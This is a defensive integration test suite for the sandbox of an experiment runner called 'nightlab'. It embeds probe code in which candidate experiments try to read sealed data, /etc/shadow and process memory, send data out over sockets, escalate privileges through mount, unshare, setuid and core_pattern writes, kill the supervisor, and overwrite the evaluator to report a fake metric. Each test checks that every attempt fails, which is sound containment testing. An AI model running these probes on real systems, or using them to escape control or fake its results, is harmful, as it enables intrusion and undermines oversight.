"""Candidates that look, reach or stay outside their box. Each tries many doors; none may open."""

from __future__ import annotations

import os
import socket
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest
from support.arena import HONEST, Arena, genome

from nightlab.engines.local.layout import GUEST
from nightlab.sandbox.bubblewrap import SYSTEM

pytestmark = pytest.mark.integration

NOTHING_GAINED = ("discard", "inconclusive")


def check_shut(arena: Arena, top: str, doors: int, **more: str) -> str:
    """Run the attack: at least so many doors were tried, none opened, and nothing was gained."""
    got = arena.attack(genome(top=top, **more))
    assert got.open() == []
    assert len(got.tried()) >= doors, got.log
    assert got.said == NOTHING_GAINED and got.measured.metric == arena.honest
    return got.log


# -- reading -------------------------------------------------------------------------------------------


def test_reading_sealed_data(arena: Arena) -> None:
    """By its path on the host, in the home, through every process and every descriptor."""
    log = check_shut(
        arena,
        f"""
import glob
def found(pattern):
    names = glob.glob(pattern)
    if not names: raise FileNotFoundError(pattern)
    return names
sealed = {str(arena.data)!r} + "/sealed"
tries("sealed by its path", lambda: open(sealed + "/val.bin", "rb").read())
tries("sealed folder", lambda: os.listdir(sealed))
tries("sealed beside open", lambda: open({str(arena.data)!r} + "/open/../sealed/val.bin", "rb").read())
tries("sealed in home", lambda: found(os.path.expanduser("~/**/val.bin")))
tries("anywhere usual", lambda: found("/lab/**/val.bin") + found("/data/**/val.bin"))
for kind in ("root", "cwd"):
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            path = f"/proc/{{pid}}/{{kind}}{{sealed}}/val.bin"
            tries(f"sealed by {{kind}} of {{pid}}", lambda: open(path, "rb").read())
def boxes(pid):  # bubblewrap's own processes in the box: as much ours as the candidate
    with open(f"/proc/{{pid}}/cmdline", "rb") as line: return b"bwrap" in line.read()
for pid in os.listdir("/proc"):
    if pid.isdigit() and int(pid) != os.getpid() and not (boxes(pid) and {os.geteuid()}):
        for fd in range(4): tries(f"descriptor {{fd}} of {{pid}}", lambda: open(f"/proc/{{pid}}/fd/{{fd}}", "rb"))
        tries(f"memory of {{pid}}", lambda: open(f"/proc/{{pid}}/mem", "rb"))
        tries(f"environment of {{pid}}", lambda: open(f"/proc/{{pid}}/environ", "rb").read())
def inherited():
    odd = []
    known = [os.environ[k] for k in ("NIGHTLAB_CONTROL", "NIGHTLAB_LINK", "NIGHTLAB_SHARED")]
    for fd in os.listdir("/proc/self/fd"):
        try: to = os.readlink("/proc/self/fd/" + fd)
        except OSError: continue
        if fd not in known and to != "/dev/null" and not to.startswith(("pipe:", "/proc/")): odd.append((fd, to))
    if not odd: raise FileNotFoundError("nothing but what it was given")
    return odd
tries("inherited descriptors", inherited)
tries("shared memory reopened", lambda: os.listdir("/proc/self/fd/" + os.environ["NIGHTLAB_SHARED"] + "/.."))
def processes():
    others = [p for p in os.listdir("/proc") if p.isdigit() and p != str(os.getpid()) and not boxes(p)]
    if not others: raise FileNotFoundError("nobody else")
    return others
tries("other processes", processes)
print(len(prepare.examples()))
""",
        10,
    )
    assert "384" in log.splitlines(), "what it may read, it can"


def test_reading_what_is_yours(arena: Arena) -> None:
    """Home, keys, system secrets, ledger, git, contract of the session, other experiments, nightlab itself."""
    lab, state = arena.folder, arena.folder / ".nightlab" / "t"
    paths = [
        arena.home / "id_ed25519",
        arena.home,
        Path("/etc/shadow"),
        Path("/etc/sudoers"),
        Path("/root/.ssh"),
        Path("/root/.bashrc"),
        Path("/home") / "nobody",
        Path("/var/log"),
        Path("/run"),
        Path("/sys"),
        Path("/boot"),
        lab / ".git" / "config",
        lab / ".git" / "HEAD",
        state / "ledger.db",
        state / "results.tsv",
        state / "trials",
        lab / "train.py",
        Path("/lab/.git"),
        Path("/lab/.nightlab"),
        Path("/lab/../.nightlab"),
        Path(__file__),
        Path("/proc/kcore"),
        Path("/proc/kmsg"),
        Path("/dev/mem"),
        Path("/dev/kmsg"),
        Path("/dev/vda"),
        Path("/dev/sda"),
        Path("/dev/fuse"),
    ]
    # The programs that it needs are shown, with the folders above them: they may lie in one of these.
    box = arena.session.local_engine.sandbox
    shown = [*map(Path, SYSTEM), *getattr(box, "readable", ()), GUEST]
    paths = [path for path in paths if not any(path in (one, *one.parents) or one in path.parents for one in shown)]
    look = f"""
def look(path): return os.listdir(path) if os.path.isdir(path) else open(path, "rb").read(20)
for path in {[str(p) for p in paths]}: tries(path, lambda: look(path))
def secret():
    found = {{k: v for k, v in os.environ.items() if v in ("swordfish", {str(arena.home)!r})}}
    if not found: raise KeyError("no secret")
    return found
tries("environment", secret)
print(sorted(os.environ))
"""
    log = check_shut(arena, look, len(paths) + 1)
    assert "A_SECRET_KEY" not in log and "'HOME'" in log


# -- network -------------------------------------------------------------------------------------------


@pytest.fixture
def listeners(tmp_path: Path) -> Iterator[dict[str, object]]:
    """A server of each kind on this machine, and what came in."""
    tcp, udp = socket.create_server(("127.0.0.1", 0)), socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind(("127.0.0.1", 0))
    path, abstract = socket.socket(socket.AF_UNIX), socket.socket(socket.AF_UNIX)
    path.bind(str(tmp_path / "socket"))
    (tmp_path / "socket").chmod(0o777)
    name = f"\0nightlab-{os.getpid()}"
    abstract.bind(name)
    servers = [tcp, udp, path, abstract]
    for server in servers:
        server.setblocking(False)
        if server is not udp:
            server.listen()
    where = {"tcp": tcp.getsockname(), "udp": udp.getsockname(), "path": str(tmp_path / "socket"), "abstract": name}
    yield {"where": where, "servers": servers}
    for server in servers:
        server.close()


def test_sockets(arena: Arena, listeners: dict[str, object]) -> None:
    where = listeners["where"]
    check_shut(
        arena,
        f"""
import socket
where = {where!r}
def ask(family, kind, to):
    s = socket.socket(family, kind)
    s.settimeout(1)
    s.connect(to)
    s.send(b"secret")
    return "connected"
tries("tcp", lambda: ask(socket.AF_INET, socket.SOCK_STREAM, where["tcp"]))
tries("path", lambda: ask(socket.AF_UNIX, socket.SOCK_STREAM, where["path"]))
tries("abstract", lambda: ask(socket.AF_UNIX, socket.SOCK_STREAM, where["abstract"]))
tries("address of the world", lambda: ask(socket.AF_INET, socket.SOCK_DGRAM, ("192.0.2.1", 53)))
tries("raw", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW))
tries("a name", lambda: socket.getaddrinfo("example.com", 80))
try: ask(socket.AF_INET, socket.SOCK_DGRAM, where["udp"])  # may go out, into a loopback of its own
except OSError: pass
""",
        6,
    )
    for server in listeners["servers"]:  # type: ignore[attr-defined]
        with pytest.raises(BlockingIOError):
            server.recv(100) if server.type == socket.SOCK_DGRAM else server.accept()


# -- privileges ----------------------------------------------------------------------------------------


def test_privileges(arena: Arena) -> None:
    """Mounts, namespaces, tracing, other users, devices, killing what is outside."""
    supervisor = threading.get_native_id()  # of a process outside: this one
    check_shut(
        arena,
        f"""
import ctypes, signal
libc = ctypes.CDLL(None, use_errno=True)
def call(name, *args):
    if getattr(libc, name)(*args) < 0:
        number = ctypes.get_errno()
        raise OSError(number, os.strerror(number))
    return "done"
def inside_child(function):
    read, write = os.pipe()
    if os.fork() == 0:
        try: said = "done " + repr(function())
        except BaseException as error: said = str(error)
        os.write(write, said.encode())
        os._exit(0)
    os.close(write)
    said = os.read(read, 500).decode()
    os.wait()
    if not said.startswith("done"): raise OSError(1, said)
    return said
open("/tmp/mine", "w").write("mine")
for name, flag in dict(user=0x10000000, mount=0x20000, pid=0x20000000, net=0x40000000).items():
    tries(f"unshare {{name}}", lambda: inside_child(lambda: call("unshare", flag)))
tries("user namespace by clone", lambda: inside_child(lambda: call("syscall", 56, 0x10000000 | 17, 0, 0, 0, 0)))
tries("mount", lambda: call("mount", b"none", b"/tmp", b"tmpfs", 0, 0))
tries("bind over the evaluator's file", lambda: call("mount", b"/tmp/mine", b"/lab/prepare.py", 0, 4096, 0))
tries("remount writable", lambda: call("mount", 0, b"/lab/prepare.py", 0, 32 | 4096, 0))
tries("unmount", lambda: call("umount2", b"/lab/prepare.py", 2))
tries("chroot", lambda: os.chroot("/tmp"))
tries("setuid", lambda: os.setuid(0))
tries("setgid", lambda: os.setgid(0))
tries("setgroups", lambda: os.setgroups([0]))
tries("device", lambda: os.mknod("/tmp/hostile-device", 0o060666, os.makedev(254, 0)))
tries("hostname", lambda: call("sethostname", b"x", 1))
tries("clock", lambda: time.clock_settime(time.CLOCK_REALTIME, time.time()))
tries("priority", lambda: os.setpriority(os.PRIO_PROCESS, 0, -10))
if {os.geteuid()} == 0:  # else it is the candidate's own, with nothing more to lose
    tries("trace the first process", lambda: call("ptrace", 16, 1, 0, 0))
    tries("kill the first process", lambda: os.kill(1, 9))
tries("kill a process outside", lambda: os.kill({supervisor}, 0))
tries("raise limits", lambda: __import__("resource").setrlimit(6, (100000, 100000)))
tries("raise file limit", lambda: __import__("resource").setrlimit(1, (-1, -1)))
tries("write /proc/sys", lambda: open("/proc/sys/kernel/core_pattern", "w").write("|/tmp/mine"))
tries("sysrq", lambda: open("/proc/sysrq-trigger", "w").write("h"))
tries("become setuid", lambda: inside_child(lambda: os.execvp("su", ["su", "-c", "true"])))
tries("load a kernel module", lambda: call("syscall", 175, 0, 0, b""))
tries("bpf", lambda: call("syscall", 321, 0, 0, 0))
status = open("/proc/self/status").read()
print(*[l for l in status.splitlines() if l.startswith(("Cap", "NoNewPrivs", "Uid"))], sep="\\n")
""",
        20,
    )


def test_everything_it_can_kill_is_its_own(arena: Arena) -> None:
    """The supervisor and the evaluator are not there to be killed; the night goes on."""
    got = arena.attack(
        genome(training="import signal\nsignal.signal(15, signal.SIG_IGN)\nos.kill(-1, 15)\nos.kill(-1, 9)\n")
    )
    assert got.said == ("discard", "inconclusive") or got.said == ("crash", "crashed")


# -- changing ------------------------------------------------------------------------------------------


def test_frozen_files(arena: Arena) -> None:
    """Changed in place, renamed, unlinked, linked over, and by the parent folder."""
    check_shut(
        arena,
        """
evil = "/tmp/evil.py"
open(evil, "w").write("print('METRIC loss=0')")
for path in ("prepare.py", "lab.toml", "lib/util.py"):
    tries(f"write {path}", lambda: open(path, "a").write("x"))
    tries(f"truncate {path}", lambda: os.truncate(path, 0))
    tries(f"unlink {path}", lambda: os.unlink(path))
    tries(f"rename {path}", lambda: os.rename(path, "old"))
    tries(f"rename over {path}", lambda: (open("new", "w").close(), os.rename("new", path)))
    tries(f"link to {path}", lambda: os.link(path, "link"))
    tries(f"chmod {path}", lambda: os.chmod(path, 0o777))
tries("folder of frozen files", lambda: os.rename("lib", "lib2"))
tries("new file in it", lambda: open("lib/x.py", "w"))
tries("open data", lambda: open(prepare.DATA + "/open/train.bin", "ab"))
tries("new open data", lambda: open(prepare.DATA + "/open/new", "w"))
tries("the interpreter", lambda: open(sys.executable, "ab"))
import nightlab_guest
tries("the guest", lambda: open(nightlab_guest.__file__, "ab"))
open("train.py", "w").write("garbage (")  # its own file, in its own copy
os.makedirs(".git/hooks")
open(".git/hooks/post-checkout", "w").write("#!/bin/sh\\ntouch /tmp/hostile-hook\\n")
os.chmod(".git/hooks/post-checkout", 0o755)
open(".git/config", "w").write("[core]\\n\\tfsmonitor = touch /tmp/hostile-hook\\n")
open(".gitattributes", "w").write("* filter=x\\n")
""",
        25,
    )
    assert arena.git("cat-file", "-p", f"{arena.session.base}:train.py") == HONEST.strip()


PLACES = [
    "/tmp",
    "/dev/shm",
    "/dev",
    "/var/tmp",
    "~",
    "/lab",
    "/lab/__pycache__",
    "/lab/lib",
    "/home",
    "/",
    "/run",
    "/usr/lib",
]


def test_nothing_is_left_for_the_next_experiment(arena: Arena) -> None:
    """Files, kernel keys, semaphores, sockets: one leaves them, the next looks for them."""
    names = """
import ctypes, glob, socket
libc = ctypes.CDLL(None, use_errno=True)
def key(): return libc.syscall(250, 10, -4, b"user", b"hostile-key", 0)  # keyctl search in the user's keyring
"""
    leave = f"""{names}
for place in {PLACES}:
    try:
        place = os.path.expanduser(place)
        os.makedirs(place, exist_ok=True)
        open(place + "/hostile-note", "w").write("a note")
        print("left in", place)
    except OSError: pass
libc.syscall(248, b"user", b"hostile-key", b"a note", 6, -4)
libc.shmget(4242, 100, 0o1666)
print("key", key() > 0)
"""
    got = arena.attack(genome(top=leave))
    assert got.said == NOTHING_GAINED
    left = sorted(line.split()[-1] for line in got.log.splitlines() if line.startswith("left in"))
    assert left == ["/dev/shm", "/home/lab", "/lab", "/lab/__pycache__", "/tmp"], "folders with a limit, and no other"
    look = f"""{names}
def found(what):
    if not what: raise FileNotFoundError("nothing")
    return what
for place in {PLACES}:
    tries("note in " + place, lambda: open(os.path.expanduser(place) + "/hostile-note").read())
tries("key", lambda: found(key() > 0))
tries("shared segment", lambda: found(libc.shmget(4242, 100, 0) >= 0))
tries("any note", lambda: found(glob.glob("/*/hostile*") + glob.glob("/*/*/hostile*")))
"""
    check_shut(arena, look, len(PLACES) + 3)
